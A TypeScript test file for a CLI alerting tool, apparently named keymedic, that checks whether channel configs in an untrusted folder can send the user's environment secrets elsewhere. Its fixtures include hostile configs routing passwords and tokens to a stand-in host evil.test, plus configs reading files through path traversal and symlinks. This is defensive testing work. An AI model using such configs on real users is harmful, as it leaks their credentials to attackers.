/** @module `keymedic channels test` in a folder whose config nobody named: its receivers get nothing of elsewhere. */

import { symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { testChannels } from '../../../src/cli/commands/channels.ts';
import { asChannelTest, asDaemon, loadFor } from '../../../src/cli/terminal/config.ts';
import { makeFolder } from '../../config/folder.ts';
import { collect } from '../collect-output.ts';

/** What a developer's shell or a CI runner holds. */
const ours = {
  RELAY_PASSWORD: 'our-Relay-pw-77',
  DEPLOY_TOKEN: 'our-deploy-token-99',
  HOOK_URL: 'https://hooks.example.com/services/ours',
  HOOK_SECRET: 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw',
};
const token = '{ env: DEPLOY_TOKEN }';
const mail = (smtp: string, more = '') =>
  `{ id: c, type: email, smtp: ${smtp}, from: a@evil.test, to: [b@evil.test]${more} }`;

/** Each type of channel that sends a secret. */
const thieves: Readonly<Record<string, string>> = {
  email: mail('{ url: "smtp://evil.test:587", username: u, password: { env: RELAY_PASSWORD } }'),
  'email with TLS': mail('{ url: "smtps://evil.test:465", username: u, password: { env: RELAY_PASSWORD } }'),
  'a webhook that is signed': '{ id: c, type: webhook, url: "https://evil.test/", secret: { env: HOOK_SECRET } }',
  'a webhook with an older secret':
    '{ id: c, type: webhook, url: "https://evil.test/", secret: whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw, old_secrets: [{ env: HOOK_SECRET }] }',
  telegram: `{ id: c, type: telegram, token: ${token}, chat: "-1", endpoint: "https://evil.test" }`,
  pagerduty: `{ id: c, type: pagerduty, key: ${token}, endpoint: "https://evil.test" }`,
  opsgenie: `{ id: c, type: opsgenie, key: ${token}, endpoint: "https://api.opsgenie.com.evil.test" }`,
  'pagerduty without TLS': `{ id: c, type: pagerduty, key: ${token}, endpoint: "http://events.pagerduty.com" }`,
  'the token of ntfy': `{ id: c, type: ntfy, topic: x, token: ${token}, endpoint: "https://evil.test" }`,
  'the topic of ntfy': `{ id: c, type: ntfy, topic: ${token}, endpoint: "https://evil.test/x" }`,
  alertmanager: `{ id: c, type: alertmanager, url: "https://evil.test", token: ${token} }`,
  'slack, with a URL that is made of ours': '{ id: c, type: slack, url: { env: MADE } }',
  'teams, with a URL that is made of ours': '{ id: c, type: teams, url: { env: MADE } }',
  'discord, with a URL that is made of ours': '{ id: c, type: discord, url: { env: MADE } }',
  'a webhook, with a host of its own file': `{ id: c, type: alertmanager, url: { env: OWN }, token: ${token} }`,
  'a URL in a file of the folder': `{ id: c, type: alertmanager, url: { file: url.txt }, token: ${token} }`,
  'a file above the folder':
    '{ id: c, type: ntfy, topic: x, token: { file: ../above.txt }, endpoint: "https://evil.test" }',
  'a link to a file': '{ id: c, type: ntfy, topic: x, token: { file: link.txt }, endpoint: "https://evil.test" }',
  'a proxy': `{ id: c, type: ntfy, topic: x, token: ${token}, proxy: "http://evil.test:3128" }`,
  'the log-in of a proxy': '{ id: c, type: ntfy, topic: x, proxy: { env: MADE } }',
};
const dotenv = 'OWN=https://evil.test/\nMADE=https://evil.test/$' + '{DEPLOY_TOKEN}\nALIAS=$HOOK_URL\n';

/** A folder below one that is ours. */
async function makeStrange(channel: string, more = ''): Promise<string> {
  const text = `env_file: .env\nintegrations: []\nchannels:\n  - ${channel}\n${more}`;
  const files = { 'above.txt': 'our-secret-above', 'clone/keymedic.yaml': text, 'clone/.env': dotenv };
  const folder = join(await makeFolder(files), 'clone');
  await writeFile(join(folder, 'url.txt'), 'https://evil.test/\n');
  await symlink('../above.txt', join(folder, 'link.txt'));
  return folder;
}

describe.each(Object.entries(thieves))('%s', (_, channel) => {
  test('gets nothing, and the daemon that is started there means its receivers', async () => {
    const folder = await makeStrange(channel);
    const { io } = collect(folder, { ...ours, HOME: await makeFolder({}) });
    await expect(testChannels([], {}, io)).rejects.toThrow('name it if that is wanted: --config');
    expect((await loadFor(io, undefined, asDaemon)).config).toBeDefined();
    expect((await loadFor(io, 'keymedic.yaml', asChannelTest)).config).toBeDefined();
  });
});

test.each([
  ['a mail server that gets no secret', mail('"smtp://evil.test:587"')],
  ['a secret of its own', '{ id: c, type: ntfy, topic: { env: OWN }, endpoint: "https://evil.test" }'],
  ['a URL of ours, which names its own host', '{ id: c, type: slack, url: { env: HOOK_URL } }'],
  ['another name of that URL', '{ id: c, type: slack, url: { env: ALIAS } }'],
  ['a URL and a secret of ours', '{ id: c, type: webhook, url: { env: HOOK_URL }, secret: { env: HOOK_SECRET } }'],
  ['the usual address', `{ id: c, type: telegram, token: ${token}, chat: "-1" }`],
  ['the address of the EU', `{ id: c, type: pagerduty, key: ${token}, endpoint: "https://events.eu.pagerduty.com/" }`],
  ['this machine', mail('{ url: "smtp://127.0.0.1:25", username: u, password: { env: RELAY_PASSWORD } }')],
])('%s needs no consent', async (_, channel) => {
  const { io } = collect(await makeStrange(channel), { ...ours });
  expect((await loadFor(io, undefined, asChannelTest)).config).toBeDefined();
});

test('a redirection of all connections takes the usual addresses with it', async () => {
  const channel = `{ id: c, type: telegram, token: ${token}, chat: "-1" }`;
  for (const network of ['connect_to: ["api.telegram.org::evil.test:443"]', 'proxy: "http://evil.test:3128"']) {
    const { io } = collect(await makeStrange(channel, `network: { ${network} }\n`), { ...ours });
    expect((await loadFor(io, undefined, asChannelTest)).config).toBeUndefined();
  }
});

describe('a mail that is made from a file', () => {
  test.each([
    ['by its path above the folder', '../above.txt', false],
    ['by a link', 'link.txt', false],
    ['of the system', '/etc/hostname', false],
    ['of the folder', 'url.txt', true],
  ])('%s', async (_, path, isAllowed) => {
    for (const part of ['text', 'subject']) {
      const channel = mail('"smtp://evil.test:587"', `, template: { ${part}: "${path}" }`);
      const { io } = collect(await makeStrange(channel), { ...ours });
      expect((await loadFor(io, undefined, asChannelTest)).config !== undefined).toBe(isAllowed);
      expect((await loadFor(io, 'keymedic.yaml', asChannelTest)).config).toBeDefined();
    }
  });
});

test('a yes for the hosts of the integrations is none for the channels', async () => {
  const key = '{ env: DEPLOY_TOKEN }';
  const folder = await makeFolder({
    'keymedic.yaml': `integrations:\n  - { id: a, provider: http, key: ${key}, http: { url: "https://evil.test/" } }\nchannels:\n  - ${thieves['alertmanager']}\n`,
  });
  const home = await makeFolder({});
  const load = async (answers: readonly string[] | undefined, does?: typeof asChannelTest) =>
    (await loadFor(collect(folder, { ...ours, HOME: home }, answers).io, undefined, does)).config !== undefined;
  expect(await load(['y'])).toBe(true);
  expect(await load(undefined)).toBe(true);
  expect(await load(undefined, asChannelTest)).toBe(false);
});

test('a receiver that answers with a redirection gets no second request', async () => {
  const got: (string | undefined)[] = [];
  const server = createServer((request, response) => {
    got.push(request.url);
    response.writeHead(307, { location: '/elsewhere' }).end();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  onTestFinished(() => new Promise<void>((done) => server.close(() => done())));
  const { port } = server.address() as AddressInfo;
  const channel = `{ id: c, type: alertmanager, url: "http://127.0.0.1:${port}", token: ${token} }`;
  expect(await testChannels([], {}, collect(await makeStrange(channel), { ...ours }).io)).toBe(2);
  expect(got).toEqual(['/api/v2/alerts']);
});
